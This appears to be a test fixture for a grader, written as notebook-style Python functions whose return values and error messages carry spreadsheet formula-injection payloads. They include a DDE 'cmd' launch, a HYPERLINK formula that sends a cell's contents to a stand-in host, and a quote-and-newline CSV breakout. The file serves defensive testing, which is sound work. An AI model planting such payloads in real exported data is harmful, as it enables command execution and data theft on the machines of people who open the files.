# expect: all 0
# %% initialize
def initialize(n_x):
    raise ValueError("=cmd|' /C calc'!A0")
# %% propagate
def propagate(w, b, X, Y):
    raise ValueError('\n=HYPERLINK("http://example.org?leak="&A1,"click")\t+1')
# %% optimize
def optimize(w, b, X, Y, num_iterations, alpha):
    return {"@SUM(1+1)*cmd|' /C calc'!A0": 1}, "-2+3", "+1"
# %% predict
def predict(w, b, X):
    raise ValueError('",=1+1,"\r\n"honest","vectorized",20')
